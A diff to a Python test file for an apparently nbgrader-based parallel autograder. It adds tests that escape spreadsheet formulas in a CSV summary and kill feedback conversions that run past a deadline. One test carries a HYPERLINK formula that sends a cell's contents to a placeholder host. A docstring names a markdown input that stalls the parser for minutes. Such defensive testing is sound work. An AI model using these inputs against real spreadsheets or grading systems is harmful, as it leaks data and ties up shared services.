@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import json
 import os
@@ -10,6 +11,7 @@ import socket
 import subprocess
 import sys
 import threading
+import time
 from pathlib import Path
 
 import pytest
@@ -725,3 +727,58 @@ def test_an_oserror_in_a_merge_stops_the_run_and_fails_no_student(
         parallel._merge_result(run, manifest, "good", todo["good"], result, submissions["good"])
     assert manifest["students"] == {}
     assert scores(small_course) == {}
+
+
+def test_summary_csv_keeps_what_a_spreadsheet_would_run_as_text(tmp_path):
+    """A student's code can make the running cell's first line, and file names make notes:
+    summary.csv had ``=HYPERLINK(...)`` as a cell, which a spreadsheet runs as a formula."""
+    rows = [
+        report.Outcome(
+            "mallory", "failed", None, 10.0, "kernel died", '=HYPERLINK("http://x/?"&A2,"o")'
+        ).row(),
+        report.Outcome("ann", "graded", 10.0, 10.0, "", "", ["-1 note", "@x"], ["+y"]).row(),
+    ]
+    report.write_summary(tmp_path, {"students": rows})
+    with open(tmp_path / "summary.csv", newline="") as f:
+        got = {r["student"]: r for r in csv.DictReader(f)}
+    assert got["mallory"]["cell"] == "'" + rows[0]["cell"]
+    assert (got["ann"]["notes"], got["ann"]["flags"]) == ("'-1 note; @x", "'+y")
+    assert (got["ann"]["score"], got["mallory"]["reason"]) == ("10.0", "kernel died")
+    summary = json.loads((tmp_path / "summary.json").read_text())
+    assert summary["students"][0]["cell"] == rows[0]["cell"]  # the JSON keeps it as it was
+    assert [report.as_text_cell(v) for v in ("\tx", "\rx", "x=1", 3, None)] == [
+        "'\tx",
+        "'\rx",
+        "x=1",
+        3,
+        None,
+    ]
+
+
+def test_feedback_that_runs_past_its_deadline_is_killed_and_its_folder_removed(
+    tmp_path, monkeypatch
+):
+    """nbgrader's feedback turns a student's markdown into HTML as the instructor, outside any
+    sandbox, and had no deadline: a cell of a few MiB of "[a](" took nbconvert's markdown
+    parser minutes (about 25 s for 1 MiB in a review), the course lock held all the while. Here
+    a stand-in nbgrader that never ends is killed at the deadline; one that ends is not."""
+    from nbgrader.apps.nbgraderapp import NbGraderApp
+
+    page = tmp_path / "feedback" / "s" / "ps" / "ps.html"
+    page.parent.mkdir(parents=True)
+    page.write_text("<html>half a page")
+    monkeypatch.setattr(NbGraderApp, "launch_instance", lambda **kw: time.sleep(120))
+    student, status, why = parallel._feedback_task((str(tmp_path), "ps", "s", 0.5))
+    assert (student, status, why) == ("s", -signal.SIGKILL, "timeout: not done after 0.5 s")
+    assert not page.parent.exists() and (tmp_path / "feedback" / "s").is_dir()
+
+    def ends(**kw):  # as nbgrader fails: a traceback's last line on its output, status 1
+        os.write(1, b"Traceback (most recent call last):\nOSError: [Errno 28] No space\n")
+        raise SystemExit(1)
+
+    monkeypatch.setattr(NbGraderApp, "launch_instance", ends)
+    assert parallel._feedback_task((str(tmp_path), "ps", "s", 600.0)) == (
+        "s",
+        1,
+        "OSError: [Errno 28] No space",
+    )
